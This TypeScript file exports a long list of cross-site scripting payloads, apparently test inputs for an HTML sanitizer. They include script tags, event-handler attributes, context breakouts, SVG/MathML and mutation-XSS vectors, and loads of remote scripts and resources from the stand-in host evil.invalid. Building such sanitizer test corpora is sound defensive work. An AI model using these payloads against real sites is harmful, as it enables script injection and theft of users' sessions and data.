// Elements, handlers and ends of contexts. One a line; `alert` is what must not run, `evil.invalid` what must not be asked.
export const markup: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<sCrIpT>alert(1)</ScRiPt>
<script src=//evil.invalid/x.js></script>
<script/src=//evil.invalid/x.js></script>
<script type=module>alert(1)</script>
<script>alert(1)//
<script
>alert(1)</script>
<script/x>alert(1)</script/x>
<<script>alert(1)//<</script>
<script>alert(1)<!--
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
--!><script>alert(1)</script>
]]><script>alert(1)</script>
?><script>alert(1)</script>
%><script>alert(1)</script>
</script><script>alert(1)</script>
</script ><script>alert(1)</script>
</script/><script>alert(1)</script>
</SCRIPT><script>alert(1)</script>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
</iframe><script>alert(1)</script>
</template><script>alert(1)</script>
</xmp><script>alert(1)</script>
</noembed><script>alert(1)</script>
</noframes><script>alert(1)</script>
</plaintext><script>alert(1)</script>
</select><script>alert(1)</script>
</option><script>alert(1)</script>
</svg><script>alert(1)</script>
</math><script>alert(1)</script>
</td></tr></table><script>alert(1)</script>
</pre><script>alert(1)</script>
</button></form><script>alert(1)</script>
</a><script>alert(1)</script>
</body></html><script>alert(1)</script>
</head><body onload=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img/src=x/onerror=alert(1)>
<img src=x onerror	=alert(1)>
<img src onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<IMG SRC=X ONERROR=alert(1)>
<img src="x" onerror=&#97;lert(1)>
<img src=//evil.invalid/x>
<img srcset=//evil.invalid/x>
<img ismap src=x onerror=alert(1) <p
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onerror=alert(1) src=x x="
' onerror=alert(1) src=x x='
" onmouseover=alert(1) "
' onmouseover=alert(1) '
 onmouseover=alert(1)
" autofocus onfocus=alert(1) tabindex=1 x="
' autofocus onfocus=alert(1) tabindex=1 x='
" style=animation-name:x onanimationstart=alert(1) x="
" accesskey=x onclick=alert(1) x="
" onpointerrawupdate=alert(1) x="
"/onclick=alert(1)/x="
" srcdoc="<script>alert(1)</script>
" formaction=javascript:alert(1) x="
" href=javascript:alert(1) x="
" src=//evil.invalid/x x="
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href=//evil.invalid/x.js></script>
<svg><script xlink:href=data:,alert(1) />
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/>
<svg><use href=//evil.invalid/x.svg#x></svg>
<svg><image href=//evil.invalid/x.png onerror=alert(1)></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><title><script>alert(1)</script></title></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>@import '//evil.invalid/x.css'</style></svg>
<svg><filter><feImage href=//evil.invalid/x /></filter></svg>
<svg xmlns:x=http://www.w3.org/1999/xlink><a x:href=javascript:alert(1)>x</a></svg>
<svg><discard onbegin=alert(1)>
<svg><view onload=alert(1)>
<math><a xlink:href=javascript:alert(1)>x</a></math>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline#http://evil.invalid xlink:href=javascript:alert(1)>x</maction></math>
<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>
<math><mtext><script>alert(1)</script></mtext></math>
<math><mi><img src=x onerror=alert(1)></mi></math>
<math><mglyph src=//evil.invalid/x></math>
<math><style><img src=x onerror=alert(1)></style></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>
<iframe src=//evil.invalid/></iframe>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object data=//evil.invalid/x type=text/html></object>
<embed src=javascript:alert(1)>
<embed src=//evil.invalid/x>
<applet code=x archive=//evil.invalid/x.jar></applet>
<portal src=javascript:alert(1) onclick=alert(1)></portal>
<fencedframe></fencedframe><script>alert(1)</script>
<a href=javascript:alert(1) id=clickme>x</a>
<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>
<form action=javascript:alert(1)><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<input autofocus onfocus=alert(1)>
<input type=image src=//evil.invalid/x formaction=javascript:alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)></video>
<video poster=//evil.invalid/x></video>
<audio src=x onerror=alert(1)>
<audio autoplay onloadstart=alert(1) src=//evil.invalid/x></audio>
<track default src=//evil.invalid/x oncuechange=alert(1)>
<details open ontoggle=alert(1)>
<dialog open onclose=alert(1)>
<div popover id=x onbeforetoggle=alert(1)></div>
<button popovertarget=x onclick=alert(1)>x</button>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background=//evil.invalid/x>
<html onclick=alert(1)>
<base href=//evil.invalid/>
<base href=javascript:alert(1)//>
<link rel=stylesheet href=//evil.invalid/x.css>
<link rel=preload as=script href=//evil.invalid/x.js>
<link rel=modulepreload href=//evil.invalid/x.js>
<link rel=dns-prefetch href=//evil.invalid>
<link rel=prefetch href=//evil.invalid/x>
<link rel=icon href=//evil.invalid/x>
<link rel=import href=//evil.invalid/x onload=alert(1)>
<meta http-equiv=refresh content=0;url=javascript:alert(1)>
<meta http-equiv=refresh content=0;url=//evil.invalid/>
<meta http-equiv=content-security-policy content="script-src *">
<meta charset=iso-2022-jp>
<meta name=referrer content=unsafe-url>
<style>@import "//evil.invalid/x.css";</style>
<style>*{background:url(//evil.invalid/x)}</style>
<style onload=alert(1)></style>
<p style="background:url(//evil.invalid/x)">
<table background=//evil.invalid/x><td background=//evil.invalid/y>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
<slot><script>alert(1)</script></slot>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)>
<noembed><img title="</noembed><img src=x onerror=alert(1)>">
<noframes><img title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<!--<img src=x onerror=alert(1)>-->
<!--><script>alert(1)</script>-->
<!---><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- <img title="--><script>alert(1)</script>">
<![CDATA[<script>alert(1)</script>]]>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;
<!ENTITY % x SYSTEM "//evil.invalid/x.dtd">
</p><script>alert(1)</script>
</br><script>alert(1)</script>
</ <script>alert(1)</script>
</><script>alert(1)</script>
</x onclick=alert(1)>
<x onclick=alert(1) tabindex=1 id=x>x
<x contenteditable onblur=alert(1)>x</x>
<1><script>alert(1)</script>
<é><script>alert(1)</script>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">
<table><td><svg><desc><td><style><img src=x onerror=alert(1)></style>
<select><style></select><img src=x onerror=alert(1)></style>
<select><template><style><!--</select><img src=x onerror=alert(1)>
<b><p><a href=1><b><p></a><script>alert(1)</script>
<a><a><a><img src=x onerror=alert(1)>
<font face="x"><script>alert(1)</script></font>
`
  .split("\n")
  .filter((line) => line !== "");
